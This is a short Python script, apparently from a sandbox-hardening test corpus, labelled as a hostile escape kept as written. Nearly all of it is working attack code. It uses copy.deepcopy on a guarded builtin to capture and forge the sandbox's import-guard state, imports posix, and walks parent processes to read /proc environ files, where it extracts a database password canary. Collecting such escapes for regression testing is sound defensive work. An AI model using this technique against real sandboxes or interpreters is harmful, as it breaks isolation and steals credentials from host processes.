# ruff: noqa - a hostile script, kept as written
# threat: 3 reach interpreter internals
# technique: copy.deepcopy(getattr, memo) copies the guard object behind the builtins; a prepared memo gives the copy an allowed-imports set with posix
# why: the script's builtins are bound methods of a live guard object whose state deepcopy reads and rebuilds; imports are checked against that state
# escapes: runner a75ee23, wide allowlist
import copy

memo = {}
try:
    copy.deepcopy(getattr, memo)  # stops half-way (a facade cannot be copied), memo is filled
except RecursionError:
    pass
state_id = [k for k, v in memo.items() if isinstance(v, dict) and "allowed" in v and "vetted" in v][0]
state = memo[state_id]
state["allowed"] = state["allowed"] | {"posix"}
state["facades"] = {}
forged_import = copy.deepcopy(__import__, {state_id: state})
posix = forged_import("posix")


def read(path):
    fd = posix.open(path, posix.O_RDONLY)
    try:
        chunks = []
        while True:
            chunk = posix.read(fd, 65536)
            if not chunk:
                return b"".join(chunks)
            chunks.append(chunk)
    finally:
        posix.close(fd)


def parent_of(pid):
    for line in read("/proc/%d/status" % pid).decode().splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])


# Importing posix is the escape; what the child's user may read follows.
found = ["uid=%d" % posix.getuid()]
try:
    worker = parent_of(posix.getppid())
    environment = read("/proc/%d/environ" % worker).split(b"\0")
    canary = [v.decode() for v in environment if v.startswith(b"HOST_TEST_DB_PASSWORD=")]
    found.append("worker %d: %d variables %s" % (worker, len(environment), canary))
except Exception as exc:
    found.append("stopped by %r" % exc)
result = "ESCAPED import posix: " + "; ".join(found)
